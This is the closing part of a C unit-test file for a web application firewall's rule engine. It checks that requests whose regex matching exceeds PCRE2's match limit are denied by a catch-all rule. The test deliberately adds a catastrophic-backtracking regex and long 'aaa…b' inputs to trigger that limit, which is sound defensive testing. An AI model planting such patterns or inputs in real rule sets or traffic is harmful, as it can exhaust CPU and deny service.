	}
}

/*
 * Rule 100001: a request on which some rule's pattern gave up (PCRE2's
 * match limit) is denied, whichever phase gave up; one decided within the
 * limits is not. The patterns that give up are added for the test: rules
 * that only log, so what denies is 100001.
 */
static void test_engine_limit_is_denied(void **state)
{
	static const char extra[] =
		"SecRule ARGS:slow \"@rx ^(?:a+)+(?=a{12}b)\" "
		"\"id:900001,phase:2,t:none,log,pass\"\n"
		"SecRule REQUEST_HEADERS:X-Slow \"@rx ^(?:a+)+(?=a{12}b)\" "
		"\"id:900002,phase:1,t:none,log,pass\"\n";
	struct enf_rules_builder *b = NULL;
	struct enf_rule_error err = { 0 };
	struct tset t = { 0 };
	struct tmatches m;
	struct treq req;
	char dir[4096];

	(void)state;
	assert_non_null(tsrc_path(dir, sizeof(dir), "rules/sets"));
	assert_int_equal(enf_rules_builder_new(&b), 0);
	assert_true(enf_rules_builder_add_dir(b, dir, &err) > 0);
	assert_int_equal(enf_rules_builder_add_text(b, extra, strlen(extra),
						    "extra", &err),
			 2);
	assert_int_equal(enf_rules_build(b, &t.rs, &err), 0);
	enf_rules_builder_free(b);
	assert_int_equal(enf_rules_scratch_new(t.rs, &t.s), 0);

	/* phase 2 gives up */
	treq_init(&req, "GET", "/?slow=" A10 A10 A10 "b");
	assert_int_equal(tset_match(&t, &req.req, &m), 1);
	assert_non_null(tmatches_find(&m, 100001));
	assert_true(enf_rules_scratch_limit_hits(t.s) >= 1);
	/* phase 1 gives up; phase 2's rule sees it */
	treq_init(&req, "GET", "/");
	treq_header(&req, "X-Slow", A10 A10 A10 "b");
	assert_int_equal(tset_match(&t, &req.req, &m), 1);
	assert_non_null(tmatches_find(&m, 100001));
	/* decided within the limits: no match, nothing denied */
	treq_init(&req, "GET", "/?slow=aaaaab");
	treq_header(&req, "X-Slow", "aaaaab");
	assert_int_equal(tset_match(&t, &req.req, &m), 0);
	tset_free(&t);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_rules_are_well_formed),
		cmocka_unit_test(test_every_rule_has_an_attack_and_a_near_miss),
		cmocka_unit_test(test_each_attack_fires_its_rule),
		cmocka_unit_test(test_each_near_miss_fires_nothing),
		cmocka_unit_test(test_memo_changes_no_match),
		cmocka_unit_test(test_ordinary_traffic_fires_nothing),
		cmocka_unit_test(test_demo_attack_is_denied),
		cmocka_unit_test(test_demo_benign_requests_pass),
		cmocka_unit_test(test_two_prefiltered_rest_on_hyperscan),
		cmocka_unit_test(test_engine_limit_is_denied),
	};

	return cmocka_run_group_tests_name("rules_default", tests, setup,
					   teardown);
}
